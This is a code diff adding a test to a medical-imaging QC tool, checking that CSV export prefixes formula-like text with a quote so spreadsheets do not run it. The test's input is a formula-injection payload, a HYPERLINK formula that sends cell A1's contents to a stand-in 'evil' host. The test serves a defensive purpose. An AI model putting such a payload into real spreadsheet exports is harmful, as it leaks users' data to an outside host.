@@ -470,6 +470,23 @@ def test_export_refuses_a_model_the_database_does_not_hold(tmp_path: Path) -> No
         f"qc.sqlite: no results for model 'nosuch'; the database holds: {MODEL}")
 
 
+def test_a_delimited_export_never_hands_a_spreadsheet_a_formula(tmp_path: Path) -> None:
+    """A reviewer's name typed into the review app as `=HYPERLINK(…)` ran as a formula in
+    Excel; text starting like a formula is exported with a leading `'`, numbers as they are."""
+    import csv
+
+    from medq.qc.export import export_items
+
+    with Store(tmp_path / "qc.sqlite") as store:
+        item = store.record({"path": "/a.dcm", "model": MODEL, "fingerprint": "f",
+                             "status": "ok", "score": -1.5})
+        store.add_review(item, '=HYPERLINK("http://evil/"&A1,"x")', "comment", "+1 @all")
+        export_items(store, tmp_path / "x.csv")
+    (row,) = csv.DictReader((tmp_path / "x.csv").open(encoding="utf-8"))
+    assert row["reviewer"] == '\'=HYPERLINK("http://evil/"&A1,"x")'
+    assert row["score"] == "-1.5"
+
+
 # --- kill -9 and resume, through the command line ------------------------------------------------
 
 def _qc_command(archive: Path, db: Path) -> list[str]:
